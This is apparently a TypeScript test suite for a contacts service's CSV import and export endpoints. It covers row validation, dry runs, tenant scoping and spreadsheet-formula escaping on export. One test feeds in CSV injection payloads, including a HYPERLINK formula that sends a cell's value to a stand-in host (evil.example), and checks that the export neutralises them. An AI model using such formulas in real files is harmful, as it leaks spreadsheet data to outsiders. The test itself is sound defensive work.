import request from 'supertest';
import type { ContactImportDto } from '@klaxon/contracts';
import { findContact, listContacts, upsertContact } from '../../src/contacts/contact.repository';
import { ACME_KEY, SERVICE_KEY, startBackendHarness, type BackendHarness } from './helpers';

let harness: BackendHarness;
beforeAll(async () => {
  harness = await startBackendHarness();
});
afterAll(() => harness.close());

const HEADER = 'slack_user_id,name,phone,email,channels,time_zone';

function postCsv(tenant: string, csv: string, query = '', key = SERVICE_KEY) {
  return request(harness.app).post(`/contacts/import?tenant_id=${tenant}${query}`).set('x-service-key', key).set('content-type', 'text/csv').send(csv);
}
async function importCsv(tenant: string, csv: string, query = ''): Promise<ContactImportDto> {
  const res = await postCsv(tenant, csv, query);
  expect(res.status).toBe(200);
  return res.body as ContactImportDto;
}

const userId = (i: number) => `U${String(i).padStart(8, '0')}`;
// US numbers in the 555-01xx fiction range would collide after 100; +1 415 2xx xxxx are valid and distinct.
const phoneOf = (i: number) => `+1 415 ${String(2000000 + i).slice(0, 3)} ${String(2000000 + i).slice(3)}`;

describe('POST /contacts/import', () => {
  it('imports the good rows of a 10,000-line file in one go and lists each bad one by line and column', async () => {
    const bad = new Map<number, string>(); // line -> column
    const lines = [HEADER];
    for (let i = 1; i <= 10_000; i++) {
      const line = i + 1;
      if (i % 1000 === 7) {
        lines.push(`${userId(i)},Person ${i},12,,,`);
        bad.set(line, 'phone');
      } else if (i % 1000 === 8) {
        lines.push(`${userId(i)},Person ${i},${phoneOf(i)},not-an-email,,`);
        bad.set(line, 'email');
      } else if (i % 1000 === 9) {
        lines.push(`${userId(i)},Person ${i},${phoneOf(i)},,pager,Mars/Olympus`);
        bad.set(line, 'channels');
      } else {
        lines.push(`${userId(i)},"Person, ${i}",${phoneOf(i)},p${i}@example.com,whatsapp;voice;email,Europe/Berlin`);
      }
    }
    const csv = `${lines.join('\n')}\n`;

    const started = process.hrtime.bigint();
    const result = await importCsv('T-BIG', csv);
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    // The figure the issue asks about ("seconds"), reported, never asserted: CI machines vary.
    process.stdout.write(`10,000-line import: ${ms.toFixed(0)} ms (${(csv.length / 1024).toFixed(0)} kB)\n`);

    expect(result).toMatchObject({ tenant_id: 'T-BIG', dry_run: false, rows: 10_000, imported: 10_000 - 30, unchanged: 0, kept_self: 0, skipped: 30 });
    expect([...new Set(result.errors.map((e) => e.line))]).toEqual([...bad.keys()]);
    // The row with an unknown channel and an unknown zone fails on both columns.
    expect(result.errors.filter((e) => e.line === 10).map((e) => e.column)).toEqual(['channels', 'time_zone']);
    for (const error of result.errors) expect(error.column === bad.get(error.line) || error.column === 'time_zone').toBe(true);
    expect(JSON.stringify(result.errors)).not.toContain('not-an-email');

    const stored = await listContacts(harness.db, 'T-BIG');
    expect(stored).toHaveLength(10_000 - 30);
    expect(stored[0]).toMatchObject({ slackUserId: userId(1), name: 'Person, 1', phone: '+14152000001', email: 'p1@example.com', channels: ['whatsapp', 'voice', 'email'], timeZone: 'Europe/Berlin', source: 'import' });

    // The same file again changes nothing.
    expect(await importCsv('T-BIG', csv)).toMatchObject({ imported: 0, unchanged: 10_000 - 30, skipped: 30 });
  });

  it('changes nothing on a dry run, and answers with what it would do', async () => {
    const csv = `${HEADER}\nU0DRY1,Dry,+14155550101,,,\nU0DRY2,,bad,,,\n`;
    expect(await importCsv('T-DRY', csv, '&dry_run=true')).toMatchObject({ dry_run: true, rows: 2, imported: 1, skipped: 1, errors: [{ line: 3, column: 'phone' }] });
    expect(await listContacts(harness.db, 'T-DRY')).toEqual([]);
  });

  it('replaces a Slack profile copy, keeps a number the person set unless overwrite=self', async () => {
    await upsertContact(harness.db, { tenantId: 'T-SRC', slackUserId: 'U0SLACK', source: 'slack', phone: '+14155550111' });
    await request(harness.app).put('/contacts/T-SRC/U0SELF').set('x-service-key', SERVICE_KEY).send({ phone: '+14155550122' }).expect(200);
    const csv = `slack_user_id,phone\nU0SLACK,+14155550133\nU0SELF,+14155550144\n`;

    expect(await importCsv('T-SRC', csv)).toMatchObject({ imported: 1, kept_self: 1, skipped: 0 });
    expect(await findContact(harness.db, 'T-SRC', 'U0SLACK')).toMatchObject({ phone: '+14155550133', source: 'import' });
    expect(await findContact(harness.db, 'T-SRC', 'U0SELF')).toMatchObject({ phone: '+14155550122', source: 'self' });

    expect(await importCsv('T-SRC', csv, '&overwrite=self')).toMatchObject({ imported: 1, unchanged: 1, kept_self: 0 });
    expect(await findContact(harness.db, 'T-SRC', 'U0SELF')).toMatchObject({ phone: '+14155550144', source: 'import' });
  });

  it('refuses a row that would break the PUT /contacts rules against what is stored, a repeated person, a malformed line', async () => {
    const csv = [
      'slack_user_id,email,channels',
      'U0RULE1,,email', // email channel without an address
      'U0RULE2,a@example.com,whatsapp;email',
      'U0RULE2,b@example.com,',
      'U0RULE3,"unclosed@example.com,sms',
    ].join('\n');
    const result = await importCsv('T-RULES', csv);
    expect(result).toMatchObject({ imported: 1, skipped: 3 });
    expect(result.errors).toEqual([
      { line: 2, column: 'channels', reason: expect.stringContaining('no email address is set') },
      { line: 4, column: 'slack_user_id', reason: 'U0RULE2 is already on line 3; each person once per file' },
      { line: 5, column: null, reason: expect.stringContaining('not a well-formed CSV record') },
    ]);
  });

  it('refuses a file without the header, naming it, and writes nothing', async () => {
    const res = await postCsv('T-HEAD', 'U0NOHEAD,+14155550101\n').expect(422);
    expect(res.body).toEqual({ error: 'invalid_field', detail: expect.stringMatching(/^header: unknown column "u0nohead"/) });
    expect((await postCsv('T-HEAD', '').expect(422)).body.detail).toMatch(/the CSV is empty/);
    expect(await listContacts(harness.db, 'T-HEAD')).toEqual([]);
  });

  it('lets a key bound to a tenant import for that tenant only', async () => {
    const csv = 'slack_user_id,phone\nU0BOUND,+14155550155\n';
    expect((await postCsv('acme', csv, '', ACME_KEY).expect(200)).body).toMatchObject({ imported: 1 });
    await postCsv('T-OTHER', csv, '', ACME_KEY).expect(404);
    expect(await listContacts(harness.db, 'T-OTHER')).toEqual([]);
  });
});

describe('GET /contacts/export', () => {
  it('gives the directory back in the import format, numbers in full, and an import of it changes nothing', async () => {
    const csv = `${HEADER}\nU0EXP1,"Doe, Jane",+44 20 7946 0958,jane@example.com,whatsapp;email,Europe/London\nU0EXP2,Bob,+14155550166,,,\n`;
    await importCsv('T-EXP', csv);
    const res = await request(harness.app).get('/contacts/export?tenant_id=T-EXP').set('x-service-key', SERVICE_KEY).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text).toBe(`${HEADER}\nU0EXP1,"Doe, Jane",+442079460958,jane@example.com,whatsapp;email,Europe/London\nU0EXP2,Bob,+14155550166,,whatsapp;voice;sms,\n`);
    expect(await importCsv('T-EXP', res.text)).toMatchObject({ imported: 0, unchanged: 2, skipped: 0 });
  });

  it('writes a cell a spreadsheet would run as a formula with a leading quote (OWASP), numbers as they are, and reads its own file back unchanged', async () => {
    // Names are copied from Slack display names, which anyone picks for themselves.
    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+SUM(1+1)', '-2+3', '@cmd', "'Tis Jane", "'=already quoted"];
    for (const [i, name] of names.entries()) {
      await upsertContact(harness.db, { tenantId: 'T-FORMULA', slackUserId: `U0CSV${i}`, source: 'import', name, phone: `+1415555017${i}` });
    }
    await upsertContact(harness.db, { tenantId: 'T-FORMULA', slackUserId: 'U0CSVMAIL', source: 'import', name: 'Plain', email: '-jane@example.com' });

    const res = await request(harness.app).get('/contacts/export?tenant_id=T-FORMULA').set('x-service-key', SERVICE_KEY).expect(200);
    expect(res.text.split('\n').slice(1, -1)).toEqual([
      'U0CSV0,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",+14155550170,,whatsapp;voice;sms,',
      "U0CSV1,'+SUM(1+1),+14155550171,,whatsapp;voice;sms,",
      "U0CSV2,'-2+3,+14155550172,,whatsapp;voice;sms,",
      "U0CSV3,'@cmd,+14155550173,,whatsapp;voice;sms,",
      "U0CSV4,'Tis Jane,+14155550174,,whatsapp;voice;sms,",
      "U0CSV5,''=already quoted,+14155550175,,whatsapp;voice;sms,",
      "U0CSVMAIL,Plain,,'-jane@example.com,whatsapp;voice;sms,",
    ]);
    expect(await importCsv('T-FORMULA', res.text)).toMatchObject({ imported: 0, unchanged: 7, skipped: 0 });
    expect((await listContacts(harness.db, 'T-FORMULA')).map((c) => c.name)).toEqual([...names, 'Plain']);
    expect(await findContact(harness.db, 'T-FORMULA', 'U0CSVMAIL')).toMatchObject({ email: '-jane@example.com' });
  });
});
